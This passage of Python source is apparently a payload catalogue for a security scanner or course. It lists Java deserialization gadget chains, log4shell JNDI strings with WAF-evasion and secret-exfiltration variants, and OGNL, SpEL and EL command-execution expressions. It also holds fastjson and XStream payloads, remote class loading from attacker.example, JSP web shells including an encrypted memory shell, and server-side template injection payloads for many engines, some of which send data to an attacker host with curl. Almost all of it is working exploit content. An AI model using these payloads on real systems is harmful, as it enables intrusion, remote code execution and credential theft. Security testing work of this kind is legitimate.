              [("L", "comparator", "Ljava/util/Comparator;"), ("L", "property", STR)]),
             TEMPLATES, tail=_tc_string("outputProperties") + CLASSFILE)
SPRING1 = _chain(("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider", 1,
                  [("I", "index", ""), ("L", "methodName", STR),
                   ("L", "provider", "Lorg/springframework/core/SerializableTypeWrapper$TypeProvider;")]),
                 ("org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
                  1, [("L", "objectFactory", "Lorg/springframework/beans/factory/ObjectFactory;")]),
                 TEMPLATES, tail=_tc_string("newTransformer") + CLASSFILE)
SPRING_JTA = _chain(("org.springframework.transaction.jta.JtaTransactionManager", 4720255569299536580,
                     [("Z", "allowCustomIsolationLevels", ""), ("L", "userTransactionName", STR)]),
                    tail=_tc_string("ldap://attacker.example:1389/JtaExploit"))
GROOVY1 = _chain(AIH, ("org.codehaus.groovy.runtime.ConvertedClosure", -3519018855306519683,
                       [("L", "methodName", STR)]),
                 ("org.codehaus.groovy.runtime.MethodClosure", 8713339264357346735, [("L", "method", STR)]),
                 tail=_tc_string("entrySet") + _tc_string("execute") + _tc_string("id"))
JDK7U21 = _chain(("java.util.LinkedHashSet", -2851667679971038690, []), TEMPLATES, AIH,
                 tail=_tc_string("f5a5a608") + CLASSFILE)
C3P0 = _chain(("com.mchange.v2.c3p0.PoolBackedDataSource", -2440162180985815128, []),
              ("com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase", -2440162180985815128,
               [("L", "connectionPoolDataSource", "Ljavax/sql/ConnectionPoolDataSource;")]),
              ("com.mchange.v2.naming.ReferenceIndirector$ReferenceSerialized", -4217105405011271012,
               [("L", "reference", "Ljavax/naming/Reference;")]),
              ("javax.naming.Reference", -1673475790065791735, [("L", "classFactoryLocation", STR)]),
              tail=_tc_string("http://attacker.example/") + _tc_string("Exploit"))
ROME = _chain(("java.util.HashMap", 362498820763181265, [("F", "loadFactor", ""), ("I", "threshold", "")]),
              ("com.sun.syndication.feed.impl.ObjectBean", 1,
               [("L", "_equalsBean", "Lcom/sun/syndication/feed/impl/EqualsBean;")]),
              ("com.sun.syndication.feed.impl.ToStringBean", 1, [("L", "_beanClass", "Ljava/lang/Class;"),
                                                                  ("L", "_obj", OBJ)]),
              TEMPLATES, tail=CLASSFILE)
HIBERNATE1 = _chain(("java.util.HashMap", 362498820763181265, [("F", "loadFactor", ""), ("I", "threshold", "")]),
                    ("org.hibernate.engine.spi.TypedValue", -1, [("L", "type", "Lorg/hibernate/type/Type;"),
                                                                  ("L", "value", OBJ)]),
                    ("org.hibernate.type.ComponentType", 1, [("L", "componentTuplizer",
                                                              "Lorg/hibernate/tuple/component/ComponentTuplizer;")]),
                    ("org.hibernate.tuple.component.PojoComponentTuplizer", 1, [("[", "getters",
                                                                                  "[Lorg/hibernate/property/Getter;")]),
                    ("org.hibernate.property.BasicPropertyAccessor$BasicGetter", 1, [("L", "propertyName", STR)]),
                    TEMPLATES, tail=_tc_string("outputProperties") + CLASSFILE)
JRMP = _chain(("java.rmi.server.RemoteObjectInvocationHandler", 2, []),
              tail=b"\x77\x33" + _utf("UnicastRef") + _utf("attacker.example") + b"\x00\x00\x04\x3b" + b"\x00" * 22)
GADGETS: list[Entry] = [
    CC1, _b64l(CC1),
    CC5, _gz64(CC5),
    CC6, _b64l(CC6),
    CC2, _b64l(CC2),
    CB1, _b64l(CB1),
    SPRING1, _b64l(SPRING_JTA),
    GROOVY1, _b64l(GROOVY1),
    JDK7U21, _b64l(JDK7U21),
    C3P0, _b64l(C3P0),
    ROME, _b64l(ROME),
    HIBERNATE1, _b64l(HIBERNATE1),
    _b64l(JRMP),
    # Jackson + C3P0: a whole gadget stream smuggled as hex inside a JSON string (HexAsciiSerializedMap)
    body('["com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",{"userOverridesAsString":"HexAsciiSerializedMap:'
         + CC6.encode("latin-1").hex() + ';"}]'),
]

# log4shell (target: Apache Log4j 2 < 2.15/2.16/2.17 message lookups, in any logged header or field)
LOG4SHELL: list[Entry] = [
    # the incident-response workshop's first slide: the plain lookup in each JNDI protocol
    "${jndi:ldap://attacker.example:1389/Exploit}",
    "${jndi:ldaps://attacker.example:636/a}",
    "${jndi:rmi://attacker.example:1099/Object}",
    "${jndi:dns://attacker.example/a}",
    "${jndi:iiop://attacker.example:1050/a}",
    "${jndi:http://attacker.example/a}",
    # exfiltration chapter: nested lookups put secrets into the DNS name the server resolves
    "${jndi:ldap://${env:USER}.${hostName}.oob.attacker.example/a}",
    "${jndi:dns://${sys:java.version}.oob.attacker.example/v}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example/k}",
    "${jndi:ldap://oob.attacker.example/${java:runtime}/${java:os}}",
    # WAF-evasion chapter: lower/upper, default values, empty lookups, date and unknown prefixes
    "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}${lower:d}${lower:a}${lower:p}://attacker.example/a}",
    "${${upper:j}ndi:${upper:l}dap://attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}",
    "${jn${lower:d}i:l${lower:d}ap://attacker.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}",
    "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://attacker.example/a}",
    # the 2.15 bypass (CVE-2021-45046): localhost allow-list fooled by a fragment
    "${jndi:ldap://127.0.0.1#attacker.example:1389/a}",
    # the 2.16 recursion DoS (CVE-2021-45105)
    "${${::-${::-$${::-j}}}}",
    # plain lookups that leak without JNDI
    "${env:AWS_ACCESS_KEY_ID}",
    # encoding chapter: the lookup hidden in JSON unicode escapes (decoded before logging)
    body('{"username":"\\u0024\\u007bjndi:ldap://attacker.example/json}","password":"x"}'),
]

# expression-language (targets: Struts 2 / Confluence OGNL, Spring SpEL, MVEL, JEXL, JSP/JSF unified EL)
EL: list[Entry] = [
    # OGNL lab: Struts 2 S2-045, the expression in the Content-Type header
    hdr("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
        "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
        "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
        "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
        "(#context.setMemberAccess(#dm)))).(#cmd='id').(#iswin=(@java.lang.System@getProperty('os.name')"
        ".toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))."
        "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
        "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
        "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}", "Content-Type"),
    # S2-016 redirect: prefix and S2-032 method: prefix, as the parameters they were
    kv("redirect:${%23context%5B%27xwork.MethodAccessor.denyMethodExecution%27%5D%3Dfalse,%23f%3D%23_memberAccess"
       ".getClass().getDeclaredField(%27allowStaticMethodAccess%27),%23f.setAccessible(true),%23f.set(%23_member"
       "Access,true),@java.lang.Runtime@getRuntime().exec(%27id%27)}", 0),
    kv("method:%23_memberAccess%3D@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,%23res%3D@org.apache.struts2.Servlet"
       "ActionContext@getResponse(),%23res.getWriter().print(@java.lang.Runtime@getRuntime().exec(%23parameters"
       ".cmd%5B0%5D)),%23res.getWriter().flush()&cmd=id", 1),
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    # Confluence CVE-2022-26134: OGNL in the URI path
    ('${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),'
     '"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}',
     "path", "rs-path"),
    # Confluence CVE-2021-26084: queryString breaks out of a string into #{...}
    ("aaa'+#{\"\"[\"class\"].forName(\"javax.script.ScriptEngineManager\").newInstance().getEngineByName(\"js\")"
     ".eval(\"java.lang.Runtime.getRuntime().exec('id')\")}+'"),
    # SpEL chapter: T() type references, then the bypasses
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/spel')}",
    "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}",
    ('T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec("id")'
     '.getInputStream(),T(java.nio.charset.Charset).forName("UTF-8"))'),
    ("T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character)"
     ".toString(100)))"),
    "new java.lang.ProcessBuilder({'/bin/sh','-c','id'}).start()",
    # Spring Cloud Function CVE-2022-22963: the routing expression header
    hdr('T(java.lang.Runtime).getRuntime().exec("touch /tmp/scf")', "spring.cloud.function.routing-expression"),
    # Spring Cloud Gateway CVE-2022-22947: SpEL in a route filter argument
    body('{"id":"lab","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String(T('
         'org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]'
         '{\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com"}'),
    # MVEL and JEXL
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    'Runtime.getRuntime().exec("id"); return "ok";',
    "''.getClass().forName('java.lang.Runtime').getRuntime().exec('touch /tmp/jexl')",
    # JSP / JSF unified EL
    '${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id")}',
    ("${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript')"
     ".eval(\"java.lang.Runtime.getRuntime().exec('id')\")}"),
    "#{facesContext.externalContext.redirect('https://attacker.example/')}",
    "${Runtime.getRuntime().exec(param.cmd)}",
]

# polymorphic-deserialization (targets: XStream fromXML, java.beans.XMLDecoder / WebLogic wls-wsat, Alibaba
# fastjson autoType, Jackson default typing)
POLYMORPHIC: list[Entry] = [
    # XStream: the dynamic-proxy EventHandler classic, then Struts 2 REST S2-052 (NativeString chain)
    xml("<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
        "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
        "<string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
    xml("<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml."
        "internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml."
        "internal.ws.encoding.xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\">"
        "<cipher class=\"javax.crypto.NullCipher\"><initialized>false</initialized><opmode>0</opmode>"
        "<serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter class=\"javax.imageio.spi."
        "FilterIterator\"><iter class=\"java.util.Collections$EmptyIterator\"/><next class=\"java.lang."
        "ProcessBuilder\"><command><string>touch</string><string>/tmp/s2052</string></command>"
        "<redirectErrorStream>false</redirectErrorStream></next></iter><filter class=\"javax.imageio."
        "ImageIO$ContainsFilter\"><method><class>java.lang.ProcessBuilder</class><name>start</name>"
        "<parameter-types/></method><name>foo</name></filter><next class=\"string\">foo</next>"
        "</serviceIterator><lock/></cipher><input class=\"java.lang.ProcessBuilder$NullInputStream\"/>"
        "<ibuffer></ibuffer><done>false</done><ostart>0</ostart><ofinish>0</ofinish><closed>false</closed>"
        "</is><consumed>false</consumed></dataSource><transferFlavors/></dataHandler><dataLen>0</dataLen>"
        "</value></jdk.nashorn.internal.objects.NativeString><string>x</string></entry></map>"),
    xml("<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/><java.util.PriorityQueue>"
        "<default><size>2</size><comparator class=\"org.apache.commons.beanutils.BeanComparator\"><property>"
        "outputProperties</property></comparator></default><int>3</int><com.sun.org.apache.xalan.internal."
        "xsltc.trax.TemplatesImpl serialization=\"custom\"><com.sun.org.apache.xalan.internal.xsltc.trax."
        "TemplatesImpl><default><__name>p</__name><__bytecodes><byte-array>yv66vgAAADQA</byte-array>"
        "</__bytecodes></default></com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl>"
        "</java.util.PriorityQueue></java.util.PriorityQueue>"),
    # XMLDecoder: WebLogic CVE-2017-10271 and the plain Runtime example
    xml("<java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">"
        "<array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/bash</string></void>"
        "<void index=\"1\"><string>-c</string></void><void index=\"2\"><string>id</string></void></array>"
        "<void method=\"start\"/></object></java>"),
    xml("<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>"
        "touch /tmp/xmldecoder</string></void></object></java>"),
    xml("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header>"
        "<work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java><object class=\""
        "java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>"
        "id</string></void></array><void method=\"start\"/></object></java></work:WorkContext>"
        "</soapenv:Header><soapenv:Body/></soapenv:Envelope>"),
    xml("<java><void class=\"java.io.PrintWriter\"><string>servers/AdminServer/tmp/_WL_internal/bea_wls_internal/"
        "9j4dqk/war/s.jsp</string><void method=\"println\"><string><![CDATA[<% out.print(\"lab\"); %>]]></string>"
        "</void><void method=\"close\"/></void></java>"),
    # fastjson: the JdbcRowSetImpl JNDI classic, then every autoType bypass the course lists by version
    body('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/Exploit",'
         '"autoCommit":true}'),
    body('{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":'
         '"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://attacker.example:1099/Exploit","autoCommit":true}}'),
    body('{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://attacker.example/a","autoCommit":true}'),
    body('{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;","dataSourceName":"ldap://attacker.example/b",'
         '"autoCommit":true}'),
    body('{"@type":"[com.sun.rowset.JdbcRowSetImpl"[{,"dataSourceName":"ldap://attacker.example/c",'
         '"autoCommit":true}'),
    body('{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":{"data_source":'
         '"ldap://attacker.example/Exploit"}}'),
    body('{"@type":"java.net.Inet4Address","val":"fastjson.oob.attacker.example"}'),
    body('{"@type":"java.net.URL","val":"http://fastjson-url.oob.attacker.example"}'),
    body('{"\\u0040\\u0074\\u0079\\u0070\\u0065":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":'
         '"ldap://attacker.example/u","autoCommit":true}'),
    body('{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["'
         + base64.b64encode(CLASSFILE).decode() + '"],"_name":"a","_tfactory":{},"_outputProperties":{}}'),
    # Jackson default typing: array form and @class form
    body('["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example:1389/J","autoCommit":true}]'),
    body('["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://attacker.example:1389/L"}]'),
    body('["org.springframework.context.support.ClassPathXmlApplicationContext","http://attacker.example/spel.xml"]'),
    body('["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;'
         'INIT=RUNSCRIPT FROM \'http://attacker.example/inject.sql\'"}]'),
    body('{"@class":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example/k",'
         '"autoCommit":true}'),
]

# class-loading (target: JVM class loaders reached from input: URLClassLoader, defineClass, BCEL, MLet,
# SnakeYAML, Groovy @Grab, property binding onto class.classLoader in Spring and Struts)
CLASS_LOADING: list[Entry] = [
    # textbook: load a class from the attacker's server
    ('new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL("http://attacker.example/evil.jar")})'
     '.loadClass("Evil").newInstance()'),
    ('new javax.management.loading.MLet(new java.net.URL[]{new java.net.URL("http://attacker.example/")})'
     '.loadClass("E")'),
    # SnakeYAML chapter: yaml.load() builds ScriptEngineManager over a URLClassLoader
    yaml('!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL '
         '["http://attacker.example/yaml-payload.jar"]]]]'),
    yaml("a: !!com.sun.rowset.JdbcRowSetImpl\n  dataSourceName: ldap://attacker.example:1389/Y\n  autoCommit: true\n"),
    # defineClass from bytes: SpEL with Spring's ReflectUtils, then the raw reflective call
    ("T(org.springframework.cglib.core.ReflectUtils).defineClass('Exploit',T(org.springframework.util.Base64Utils)"
     ".decodeFromString('" + base64.b64encode(CLASSFILE).decode() + "'),new javax.management.loading.MLet("
     "new java.net.URL[0],T(java.lang.Thread).currentThread().getContextClassLoader())).newInstance()"),
    ('java.lang.ClassLoader.class.getDeclaredMethod("defineClass",byte[].class,int.class,int.class)'
     '.invoke(Thread.currentThread().getContextClassLoader(),b,0,b.length)'),
    # fastjson + BCEL: the class is the driver name, $$BCEL$$ encoded
    body('{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":'
         '"com.sun.org.apache.bcel.internal.util.ClassLoader"},"driverClassName":"$$BCEL$$$l$8b$I$A$A$A$A$A$A'
         '$AmQ$cbN$c2$40$U$3d$D$85$96$S$k$e2$5b$e3$d2$8d$d1$f0$d8$i$d7$c6$a8$R$V$d7$a3$8c$d6$a1$a4$94$f2$fb"}'),
    # Jenkins CVE-2019-1003000: Groovy @Grab fetches and loads a jar at compile time
    ("@GrabConfig(disableChecksums=true)\n@GrabResolver(name='lab', root='http://attacker.example/')\n"
     "@Grab(group='lab', module='payload', version='1')\nimport Payload;"),
    "this.class.classLoader.parseClass(new URL('http://attacker.example/x.groovy').text).newInstance()",
    # Spring4Shell (CVE-2022-22965): data binding walks class.module.classLoader into Tomcat's access log
    kv("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals"
       "(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec"
       "(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di", 0),
    kv("class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", 1),
    kv("class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT", 0),
    kv("class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar", 1),
    # Struts 2 CVE-2014-0094: class.classLoader through the ParametersInterceptor
    kv("class.classLoader.resources.dirContext.docBase=/", 0),
    kv("class['classLoader']['jarPath']=(%23context%5B%22xwork.MethodAccessor.denyMethodExecution%22%5D%3Dfalse)", 1),
]

# jsp-upload (target: Tomcat/Jetty/WebLogic JSP compilation of an uploaded or written file)
JSP_CMD = ('<%@ page import="java.io.*" %><% Process p=Runtime.getRuntime().exec(request.getParameter("cmd"));'
           'BufferedReader r=new BufferedReader(new InputStreamReader(p.getInputStream()));String l;'
           'while((l=r.readLine())!=null){out.println(l);} %>')
JSP_UPLOAD: list[Entry] = [
    # the upload chapter: the file name the server keeps, each extension trick in turn (the file is a JSP shell)
    ("cmd.jsp", "multipart-filename", "rs-multipart-filename"),
    ("shell.jspx", "multipart-filename", "rs-multipart-filename"),
    ("shell.jsp;.png", "multipart-filename", "rs-multipart-filename"),
    ("shell.jsp%00.jpg", "multipart-filename", "rs-multipart-filename"),
    ("shell.JsP", "multipart-filename", "rs-multipart-filename"),
    ("shell.jsp/", "multipart-filename", "rs-multipart-filename"),
    ("shell.jsp.", "multipart-filename", "rs-multipart-filename"),
    # the web shells the course shows, as the uploaded content or a written template field
    "<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>",
    JSP_CMD,
    ('<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet>Runtime.getRuntime()'
     '.exec(request.getParameter("c"));</jsp:scriptlet></jsp:root>'),
    ('<%= new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("c")).getInputStream())'
     '.useDelimiter("\\\\A").next() %>'),
    ('<%@ page import="javax.script.*" %><% new ScriptEngineManager().getEngineByName("js")'
     '.eval(request.getParameter("c")); %>'),
    # filter evasion: the JSP compiler decodes \\u escapes inside scriptlets
    '<% \\u0052untime.getRuntime().exec(request.getParameter("c")); %>',
    # the memory-shell chapter: a class loader shell (AES-wrapped class bytes, Behinder style)
    ('<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader c)'
     '{super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if(request.getMethod()'
     '.equals("POST")){String k="e45e329feb5d925b";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");'
     'c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal('
     'new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance()'
     '.equals(pageContext);}%>'),
]

# ================================================================================================================
# ssti (one sub-family per engine; the comment names the engine and the lesson)
# ================================================================================================================

# jinja2 (Python Jinja2 in Flask): the most taught engine, from detection to filter bypasses
JINJA2: list[Entry] = [
    "{{7*'7'}}",
    "{{config.items()}}",
    "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('cat /etc/passwd').read()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{url_for.__globals__.os.environ}}",
    "{{get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()}}",
    # filter bypass chapter: no dots, no underscores, no {{
    ("{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
     "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
     "|attr('popen')('id')|attr('read')()}}"),
    "{{request['application']['__globals__']['__builtins__']['__import__']('os')['popen']('id')['read']()}}",
    ("{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
     "{{ c.__init__.__globals__['__builtins__'].eval(\"__import__('os').popen('id').read()\") }}{% endif %}"
     "{% endfor %}"),
    "{%print(config)%}",
    # blind: the answer leaves over HTTP
    "{{joiner.__init__.__globals__.os.popen('curl http://oob.attacker.example/$(id|base64)').read()}}",
]

# twig (PHP Twig, Symfony)
TWIG: list[Entry] = [
    # the decision tree of the SSTI lesson starts with {{7*7}}, then {{7*'7'}} tells Twig from Jinja2
    "{{7*7}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('system')|join}}",
    "{{['id','']|sort('system')}}",
    "{{['id']|map('passthru')}}",
    "{{app.request.server.all|join(',')}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "{{_self.env.setCache(\"ftp://attacker.example:2121\")}}{{_self.env.loadTemplate(\"backdoor\")}}",
    "{{{'<?php system($_GET[c]); ?>':'/var/www/html/s.php'}|map('file_put_contents')}}",
    "{% set f = 'sys'~'tem' %}{{['whoami']|map(f)|join}}",
]

# freemarker (Java Apache FreeMarker)
FREEMARKER: list[Entry] = [
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '${"freemarker.template.utility.Execute"?new()("cat /etc/passwd")}',
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
    '<#assign ob="freemarker.template.utility.ObjectConstructor"?new()>${ob("java.lang.ProcessBuilder","id").start()}',
    '<#assign value="freemarker.template.utility.JythonRuntime"?new()><@value>import os;os.system("id")</@value>',
    ("${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
     ".toURL().openStream().readAllBytes()?join(\" \")}"),
    ('<#assign classloader=article.class.protectionDomain.classLoader><#assign owc=classloader.loadClass('
     '"freemarker.template.ObjectWrapper")><#assign dwf=owc.getField("DEFAULT_WRAPPER").get(null)><#assign ec='
     'classloader.loadClass("freemarker.template.utility.Execute")>${dwf.newInstance(ec,null)("id")}'),
    '${"freemarker.template.utility.Execute"?new()("curl http://oob.attacker.example/f.sh | sh")}',
    "<#if 7*7==49>${.version}</#if>",
]

# velocity (Java Apache Velocity; Solr, Confluence)
VELOCITY: list[Entry] = [
    ("#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
     "#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"
     "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))"
     "#end"),
    '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")',
    '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")',
    "#set($s='')$s.class.forName('java.lang.ProcessBuilder').getConstructor($s.class.forName('[Ljava.lang.String;'))",
    "#set($a=7*7)${a}",
    # Solr CVE-2019-17558: the custom Velocity template in the query string
    kv("wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName(%27java.lang"
       ".Runtime%27))+%23set($ex=$rt.getRuntime().exec(%27id%27))+$ex.waitFor()", 0),
    # Confluence Widget Connector CVE-2019-3396: _template points Velocity at any file
    body('{"contentId":"786457","macro":{"name":"widget","body":"","params":{"url":"https://www.viddler.com/v/'
         '23464dc5","width":"1000","height":"1000","_template":"file:///etc/passwd"}}}'),
    "#foreach($i in [1..9999999])#foreach($j in [1..9999999])#end#end",
]

# thymeleaf (Java Spring + Thymeleaf: view-name fragment expressions, inlining)
THYMELEAF: list[Entry] = [
    '__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x',
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    ('__${T(java.lang.Runtime).getRuntime().exec("touch /tmp/thyme")}__::.x', "path", "rs-path"),
    '__${T (java.lang.Runtime).getRuntime().exec("id")}__::.x',
    "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
    "[(${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')})]",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>",
    "__${T(java.lang.Thread).sleep(10000)}__::.x",
]

# erb (Ruby ERB, Rails render inline)
ERB: list[Entry] = [
    "<%= 7*7 %>",
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= IO.popen('id').readlines() %>",
    "<% require 'open3' %><%= Open3.capture2('id')[0] %>",
    "<%= `curl http://oob.attacker.example/?d=#{`whoami`}` %>",
    "<%= eval('`id`') %>",
]

# smarty (PHP Smarty)
SMARTY: list[Entry] = [
    "{$smarty.version}",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{if system('cat /etc/passwd')}{/if}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{fetch file='/etc/passwd'}",
    "{'id'|system}",
    "{include file='file:/etc/passwd'}",
]

# handlebars (Node.js Handlebars < 4.0.14 and its AST-injection gadget)
HB_RCE = ('{{#with "s" as |string|}}\n  {{#with "e"}}\n    {{#with split as |conslist|}}\n      {{this.pop}}\n'
          '      {{this.push (lookup string.sub "constructor")}}\n      {{this.pop}}\n'
          '      {{#with string.split as |codelist|}}\n        {{this.pop}}\n'
          '        {{this.push "return require(\'child_process\').execSync(\'id\');"}}\n        {{this.pop}}\n'
          '        {{#each conslist}}\n          {{#with (string.sub.apply 0 codelist)}}\n            {{this}}\n'
          '          {{/with}}\n        {{/each}}\n      {{/with}}\n    {{/with}}\n  {{/with}}\n{{/with}}')
HANDLEBARS: list[Entry] = [
    HB_RCE,
    HB_RCE.replace("return require('child_process').execSync('id');",
                   "return process.mainModule.require('child_process').execSync('cat /etc/passwd');"),
    " ".join(line.strip() for line in HB_RCE.replace("execSync('id')", "exec('rm /home/carlos/morale.txt')")
             .split("\n")),
    "{{#with this as |o|}}{{#with (lookup o \"constructor\")}}{{#with (lookup this \"constructor\")}}"
